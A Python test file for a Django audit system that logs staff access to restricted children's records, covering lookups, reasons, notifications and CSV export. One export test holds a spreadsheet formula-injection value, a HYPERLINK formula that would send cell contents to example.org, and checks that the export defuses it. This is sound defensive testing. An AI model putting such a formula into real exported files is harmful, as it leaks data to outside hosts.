"""Every page, file and feed that shows a child writes a look at that child, and the lead finds them all again."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone

from seenheard.practice.audit.finding import Asked, found, of_child
from seenheard.practice.audit.models import Event
from seenheard.practice.audit.reasons import untold
from seenheard.practice.children.looking import give_reason
from seenheard.practice.children.models import Child, Patient
from seenheard.practice.children.restricting import restrict
from seenheard.practice.diary.feeds import make_address
from seenheard.practice.diary.marking import assign, chase
from seenheard.practice.diary.models import Duty
from seenheard.practice.letters.actions import confirm_letter, receive_letter
from seenheard.practice.letters.answers import Answers, ChosenChild
from seenheard.practice.people.viewer import Viewer
from seenheard.practice.web.safe_cells import BYTE_ORDER_MARK
from tests.practice.children.test_restricted_walk import WITH_A_CHILD, Family, family, family_once, of

__all__ = ["family", "family_once"]
SignIn = Callable[[Viewer], Client]


@pytest.fixture
def opened(family: Family, lead: Viewer) -> Family:
    give_reason(lead, family=family.isla.family, because="To write the report", now=timezone.now())
    return family


@pytest.mark.parametrize("address", WITH_A_CHILD)
def test_every_page_with_a_child_behind_it_writes_the_look(
    address: str, opened: Family, lead: Viewer, signed_in: SignIn
) -> None:
    client = signed_in(lead)
    for path in of(address, opened):
        before = Event.objects.count()
        answer = client.get(path)
        new = Event.objects.filter(number__gt=before)
        if answer.status_code == 200:
            verbs = ("looked", "exported", "named_in_export", "child_exported")
            assert new.filter(child_id=opened.isla.pk, verb__in=verbs, person=lead.person).exists(), path
        else:
            assert answer.status_code in (302, 404, 405), path
            assert not new.filter(verb="looked").exists(), path


def test_head_is_a_look_too(opened: Family, lead: Viewer, signed_in: SignIn) -> None:
    signed_in(lead).head(opened.path("children/<int:pk>/"))
    assert Event.objects.filter(verb="looked", child_id=opened.isla.pk).count() == 1


def test_what_was_refused_is_no_look(family: Family, administrator: Viewer, signed_in: SignIn) -> None:
    signed_in(administrator).get(family.path("children/<int:pk>/"))
    assert not Event.objects.filter(verb="looked", person=administrator.person).exists()


def seen_by(viewer: Viewer, child: Child, lead: Viewer) -> list[str]:
    rows = of_child(found(lead, Asked(kind="looks", person_id=viewer.person.pk)), child)  # type: ignore[union-attr]
    return sorted(event.about.partition(":")[0] for event in rows)


def test_looks_at_a_letter_before_it_was_confirmed_count_once_it_is(
    administrator: Viewer, lead: Viewer, patient: Callable[..., Patient], signed_in: SignIn
) -> None:
    """Nobody could know then whom it was about; the child's record still says who has read it."""
    wren = patient("Wren", "Ashdown", "2015-06-22", "9999344879")
    letter = receive_letter(administrator, data=b"Dear Doctor", name="scan.txt", way="upload").letter
    signed_in(lead).get(f"/letters/{letter.pk}/original")
    fields = {"kind": "conference_invitation", "children": [{"name": "Wren Ashdown"}]}
    answers = Answers(fields, {}, (ChosenChild(0, True, wren.pk),), {"conference": "leave"})
    confirm_letter(administrator, letter, answers=answers)
    child = Child.objects.get(patient=wren)
    assert seen_by(lead, child, lead) == ["letter"]
    signed_in(lead).get(f"/letters/{letter.pk}/followed/")
    assert seen_by(lead, child, lead) == ["letter", "letter"], (
        "once a look, not once for the letter and once for the child"
    )


def test_search_results_and_feeds_are_found_under_each_child(opened: Family, lead: Viewer, signed_in: SignIn) -> None:
    duty = Duty.objects.filter(family=opened.isla.family, owed_by="practice").first()
    if duty is not None:
        assign(lead, duty_id=duty.pk, person_id=lead.person.pk, now=timezone.now())  # type: ignore[union-attr]
    secret = make_address(lead, for_practice=True, now=timezone.now())
    signed_in(lead).get("/children/?q=Isla Lockspur")
    client = Client()
    first = client.get(f"/feeds/{secret}.ics")
    again = client.get(f"/feeds/{secret}.ics", headers={"if-none-match": first["ETag"]})
    assert (first.status_code, again.status_code) == (200, 304)
    assert seen_by(lead, opened.isla, lead) == ["search"]
    rows = of_child(found(lead, Asked(kind="looks")), opened.isla)
    assert [event.about.partition(":")[0] for event in rows] == ["feed", "search"], "what was not sent was not seen"
    mother = opened.isla.patient
    other = Child.objects.create(practice=lead.practice, family=opened.isla.family, mother=mother, name="Another")
    assert not of_child(found(lead, Asked(kind="looks")), other).exists()


def test_child_person_kind_and_days_are_asked_at_once(
    opened: Family, lead: Viewer, administrator: Viewer, signed_in: SignIn
) -> None:
    client = signed_in(lead)
    client.get(opened.path("children/<int:pk>/"))
    today = timezone.localdate()
    where = f"/record/child/{opened.isla.pk}/"

    def rows(**asked: object) -> int:
        page = client.get(where, asked).content.decode()
        number = re.search(r"([\d,]+) events?, latest first", page)
        return int(number[1]) if number else 0

    def day(name: str, off: int) -> dict[str, int]:
        on = today + timedelta(days=off)
        return {f"{name}.day": on.day, f"{name}.month": on.month, f"{name}.year": on.year}

    me, her = lead.person, administrator.person
    assert me is not None
    assert her is not None
    assert rows(person=me.pk, kind="reasons") == 1
    assert rows(person=her.pk, kind="reasons") == 0
    assert rows(person=her.pk) > 0
    assert rows(person=me.pk, kind="reasons", **day("since", 0), **day("until", 0)) == 1
    assert rows(**day("until", -1)) == 0
    assert rows(**day("since", 1)) == 0
    wrong = client.get(where, {**day("since", 0), **day("until", -1)})
    assert wrong.status_code == 422
    assert "Until must not be before From" in wrong.content.decode()
    assert client.get(where, {"person": "999"}).status_code == 404
    assert client.get(where, {"kind": "everything"}).status_code == 404


def test_a_child_is_asked_for_by_name(opened: Family, lead: Viewer, signed_in: SignIn) -> None:
    client = signed_in(lead)
    answer = client.get("/record/", {"child": "Isla Lockspur", "kind": "looks"})
    assert answer.headers["Location"] == f"/record/child/{opened.isla.pk}/?kind=looks"
    several = client.get("/record/", {"child": "Lockspur"}).content.decode()
    assert "Which child?" in several
    assert "Nobody here fits" in client.get("/record/", {"child": "Nobody Atall"}).content.decode()


def test_a_leavers_acts_can_still_be_asked_for(
    opened: Family, lead: Viewer, administrator: Viewer, signed_in: SignIn
) -> None:
    membership = administrator.person.memberships.get()  # type: ignore[union-attr]
    membership.ends_on = timezone.localdate() - timedelta(days=1)
    membership.save()
    page = signed_in(lead).get("/record/", {"person": membership.person_id})
    assert page.status_code == 200
    assert "Letter arrived" in page.content.decode()


# What the lead is told


def test_the_lead_is_told_of_reasons_until_she_has_looked(
    family: Family, lead: Viewer, administrator: Viewer, signed_in: SignIn
) -> None:
    client = signed_in(lead)
    assert "A restricted record was opened" not in client.get("/").content.decode()
    give_reason(administrator, family=family.isla.family, because="A call from the school", now=timezone.now())
    give_reason(lead, family=family.isla.family, because="To look after it", now=timezone.now())
    assert untold(lead) == 1, "two children, one reason; and not her own"
    assert "with a reason: 1 time since you last looked" in client.get("/").content.decode()
    assert untold(administrator) == 0
    page = client.get("/record/reasons/").content.decode()
    assert "A call from the school" in page
    assert page.count(">New<") == 1 or page.count("New</strong>") == 1
    assert untold(lead) == 0
    assert "A restricted record was opened" not in client.get("/").content.decode()
    assert Event.objects.filter(verb="looked", about="reasons", person=lead.person).count() == 1


@pytest.mark.parametrize("path", ["/record/reasons/", "/record/save/"])
def test_only_the_lead_reads_reasons_and_saves_tables(path: str, administrator: Viewer, signed_in: SignIn) -> None:
    assert signed_in(administrator).get(path).status_code == 404


# Saved as a table


def table(answer: object) -> list[list[str]]:
    text = answer.content.decode()  # type: ignore[attr-defined]
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline="")))


def test_what_was_found_is_saved_and_no_cell_is_a_formula(
    family: Family, lead: Viewer, administrator: Viewer, signed_in: SignIn
) -> None:
    formula = '=HYPERLINK("http://example.org/?"&A1,"Open")'
    owed = Duty.objects.filter(family=family.isla.family, owed_by="local_authority", met_at=None).first()
    assert owed is not None
    chase(administrator, duty_id=owed.pk, words="Please", now=timezone.now())
    give_reason(administrator, family=family.isla.family, because=formula, now=timezone.now())
    answer = signed_in(lead).get("/record/save/", {"kind": "reasons"})
    assert answer["Content-Disposition"] == 'attachment; filename="record.csv"'
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    heading, *rows = table(answer)
    assert heading[:4] == ["Number", "When", "Who", "What"]
    assert [row[4] for row in rows] == [f"'{formula}"] * 2
    assert {row[6] for row in rows} == {"IL (restricted)", "CL (restricted)"}
    kept = Event.objects.get(verb="exported")
    assert (kept.person_id, kept.detail["events"]) == (lead.person.pk, 2)  # type: ignore[union-attr]


def test_one_childs_part_is_saved_behind_its_door(opened: Family, lead: Viewer, signed_in: SignIn) -> None:
    client = signed_in(lead)
    client.get(opened.path("children/<int:pk>/"))
    _, *rows = table(client.get(f"/record/child/{opened.isla.pk}/save/"))
    assert any(row[3] == "Opened" for row in rows)
    assert Event.objects.filter(verb="exported", child_id=opened.isla.pk).exists()


def test_all_of_a_long_record_is_in_the_table(lead: Viewer, signed_in: SignIn) -> None:
    from seenheard.practice.audit.actions import look

    for number in range(520):
        look(lead, f"letter:{number}")
    _, *rows = table(signed_in(lead).get("/record/save/", {"kind": "looks"}))
    numbers = [int(row[0]) for row in rows]
    assert len(numbers) == 521, "the looks, and this saving itself"
    assert numbers == sorted(numbers, reverse=True)


def test_restricting_is_itself_told(family: Family, lead: Viewer, signed_in: SignIn) -> None:
    page = signed_in(lead).get("/record/").content.decode()
    assert "Restricted the record" in page
    assert "Her mother works here" in page
    restrict(lead, family=family.isla.family, because="Once more", now=timezone.now())
    assert Event.objects.filter(verb="restricted").count() == 2, "what is restricted already is not restricted again"
